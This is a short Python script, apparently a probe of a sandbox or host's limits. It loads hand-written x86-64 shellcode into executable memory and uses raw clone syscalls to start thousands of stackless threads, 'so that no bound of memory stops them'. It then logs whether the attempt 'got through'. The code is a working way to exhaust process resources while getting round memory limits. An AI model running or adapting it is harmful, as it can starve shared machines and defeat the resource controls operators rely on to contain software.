"""Start thousands of threads that have no stack, so that no bound of memory stops them."""

import ctypes
import mmap

found = []
LIMIT = 5000  # more would take the process numbers of the whole machine
CODE = bytes.fromhex(
    "53 89fb b838000000 bf000f0500 31f6 31d2 4531d2 4531c0 0f05 85c0 740a 7804 ffcb 75e0 89d8 5bc3"
    "b8ca000000 488d3d0d000000 31f6 31d2 4531d2 0f05 ebe9 9090 00000000"
)
memory = mmap.mmap(-1, 4096, prot=7)
memory.write(CODE)
start = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
left = start(LIMIT)
found.append(f"{LIMIT - left} threads without a stack" + ("" if left else ": got through"))

evidence = "; ".join(found)
